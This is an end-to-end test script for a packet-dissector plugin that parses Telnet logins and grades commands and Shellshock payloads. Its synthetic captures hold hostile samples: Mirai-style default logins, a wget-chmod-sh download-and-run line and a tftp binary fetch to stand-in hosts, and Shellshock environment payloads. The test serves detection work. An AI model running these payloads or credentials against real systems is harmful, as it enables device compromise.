#!/bin/bash
# e2e_telnet.sh - Telnet logins, graded command lines and environment
# Shellshock through the real tshark and the built plugin.
source "$(dirname "$0")/lib.sh"
hs_setup
hs_require_plugin shellshock login

hs_gencap telnet <<'EOF'
time 1411776000
# A Mirai-style bot on a silent low-interaction honeypot: one line per segment.
tcp 175.16.199.1:41000 192.0.2.23:23
c "root\r\n" @m_user
c "xc3511\r\n" @m_pass
c "enable\r\n" @m_enable
c "sh\r\n" @m_sh
c "/bin/busybox ECCHI\r\n" @m_busybox
c "cd /tmp; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh\r\n" @m_wget
c "tftp -g -r x86 198.51.100.9\r\n" @m_tftp
c "echo -ne '\\x7f\\x45\\x4c\\x46' > .d\r\n" @m_echo
c "   \r\n" @m_blank
close
# An interactive server with prompts; several lines in one segment.
tcp 81.2.69.160:41001 192.0.2.23:23
s "\xff\xfd\x18\xff\xfd\x20Ubuntu 14.04 LTS\r\nrouter login: " @i_banner
c "admin\r\n" @i_user
s "Password: "
c "admin\r\n" @i_pass
s "\r\nLogin incorrect\r\nrouter login: "
c "support\r\n" @i_user2
s "Password: "
c "support\r\n" @i_pass2
s "\r\nLast login: Fri Sep 26 00:00:00 UTC 2014\r\n$ "
c "uname -a\r\nping -c 1 198.51.100.7\r\n" @i_two
close
# A character-at-a-time client with server echo and a DEL correction.
tcp 89.160.20.112:41002 192.0.2.23:23
s "login: "
c "r"
s "r"
c "x"
s "x"
c "\x7f"
s "\x08 \x08"
c "o"
s "o"
c "ot"
s "ot"
c "\r\0" @c_user
s "\r\nPassword: "
c "123456\r\n" @c_pass
s "\r\n# "
c "bash -c 'cat /proc/cpuinfo'\r" @c_cmd
c "\n"
close
# Shellshock in the environment options, before any login.
tcp 67.43.156.1:41003 192.0.2.23:23
c "\xff\xfa\x27\x00\x00USER\x01() { :;}; wget http://198.51.100.9/e.sh\xff\xf0" @env
c "\xff\xfa\x18\x00() { _; } >_[$($())] { id; }\xff\xf0" @ttype
c "guest\r\n" @env_user
close
# Hostile: an endless line, an IAC flood, a sub-negotiation without SE, NULs.
tcp 81.2.69.160:41004 192.0.2.23:23
c "A"*20000 @h_long
c "\r\n" @h_long_end
c "\xff\xf1"*3000 @h_iac
c "\xff\xfa\x27\x00\x00X\x01yyy\xff\xfa\x18\x00vt100\xff\xf0" @h_sb
c "\0\0\0pass\0word\r\n" @h_nul
close
EOF

F=(login.user login.password shellshock.grade shellshock.vector shellshock.command
    shellshock.url shellshock.host shellshock.cve)
hs_table telnet "${F[@]}"
A='^'

hs_eq "silent: user" "$(hs_get telnet m_user login.user)" "root"
hs_eq "silent: no password field on the user line" "$(hs_get telnet m_user login.password)" ""
hs_eq "silent: password" "$(hs_get telnet m_pass login.password)" "xc3511"
hs_eq "silent: enable is unknown, yellow" "$(hs_get telnet m_enable shellshock.grade)" "2"
hs_eq "silent: vector" "$(hs_get telnet m_enable shellshock.vector)" "telnet.command"
hs_eq "silent: sh without arguments is yellow" "$(hs_get telnet m_sh shellshock.grade)" "2"
hs_eq "silent: busybox X becomes X" "$(hs_get telnet m_busybox shellshock.command)" "ECCHI"
hs_eq "silent: wget line is red" "$(hs_get telnet m_wget shellshock.grade)" "3"
hs_eq "silent: wget commands" "$(hs_get telnet m_wget shellshock.command)" "cd${A}wget${A}chmod${A}sh"
hs_eq "silent: wget url" "$(hs_get telnet m_wget shellshock.url)" "http://198.51.100.9/bins.sh"
hs_eq "silent: tftp url" "$(hs_get telnet m_tftp shellshock.url)" "tftp://198.51.100.9/x86"
hs_eq "silent: tftp host" "$(hs_get telnet m_tftp shellshock.host)" "198.51.100.9"
hs_eq "silent: echo to a file is green" "$(hs_get telnet m_echo shellshock.grade)" "1"
hs_eq "silent: blank line gets nothing" "$(hs_get telnet m_blank shellshock.grade)" ""
hs_eq "silent: no CVE on plain commands" "$(hs_get telnet m_wget shellshock.cve)" ""

hs_eq "banner: nothing" "$(hs_get telnet i_banner login.user)" ""
hs_eq "prompts: user" "$(hs_get telnet i_user login.user)" "admin"
hs_eq "prompts: password" "$(hs_get telnet i_pass login.password)" "admin"
hs_eq "prompts: second user after Login incorrect" "$(hs_get telnet i_user2 login.user)" "support"
hs_eq "prompts: second password" "$(hs_get telnet i_pass2 login.password)" "support"
hs_eq "prompts: two command lines in one segment" "$(hs_get telnet i_two shellshock.grade)" "1${A}2"
hs_eq "prompts: their commands" "$(hs_get telnet i_two shellshock.command)" "uname${A}ping"
hs_eq "prompts: ping host" "$(hs_get telnet i_two shellshock.host)" "198.51.100.7"

hs_eq "char-at-a-time: user with DEL applied" "$(hs_get telnet c_user login.user)" "root"
hs_eq "char-at-a-time: password" "$(hs_get telnet c_pass login.password)" "123456"
hs_eq "char-at-a-time: bash -c unwrapped" "$(hs_get telnet c_cmd shellshock.command)" "cat"

hs_eq "environ: vector" "$(hs_get telnet env shellshock.vector)" "telnet.environ"
hs_eq "environ: CVE" "$(hs_get telnet env shellshock.cve)" "CVE-2014-6271"
hs_eq "environ: red" "$(hs_get telnet env shellshock.grade)" "3"
hs_eq "environ: url" "$(hs_get telnet env shellshock.url)" "http://198.51.100.9/e.sh"
hs_eq "terminal-type: CVE-2014-6278" "$(hs_get telnet ttype shellshock.cve)" "CVE-2014-6271${A}CVE-2014-6278"
hs_eq "environ: login still follows" "$(hs_get telnet env_user login.user)" "guest"

hs_eq "hostile: endless line capped, still a user name" \
    "$(hs_get telnet h_long_end login.user | wc -c)" "$((8192 + 1))"
hs_eq "hostile: expert info for the dropped part" \
    "$(hs_count telnet '_ws.expert.message contains "longer than the limit"')" "1"
hs_eq "hostile: SB without SE reported" \
    "$(hs_count telnet '_ws.expert.message contains "without IAC SE"')" "1"
hs_eq "hostile: NULs trimmed" "$(hs_get telnet h_nul login.password)" "password"

hs_eq "filter login.user == root" "$(hs_count telnet 'login.user == "root"')" "2"
hs_eq "filter red telnet commands" \
    "$(hs_count telnet 'shellshock.vector == "telnet.command" && shellshock.grade == red')" "2"

# Two-pass dissection (as the GUI redissects) gives the same fields.
hs_tshark -2 -r "$HS_TMP/telnet.pcap" -T fields -E "aggregator=$HS_AGG" -E occurrence=a \
    -e frame.number $(printf -- '-e %s ' "${F[@]}") >"$HS_TMP/two-pass.tsv"
tail -n +2 "$HS_TMP/telnet.tsv" >"$HS_TMP/one-pass.tsv"
hs_eq "two-pass equals one-pass" "$(diff "$HS_TMP/one-pass.tsv" "$HS_TMP/two-pass.tsv" | head -12)" ""

hs_done
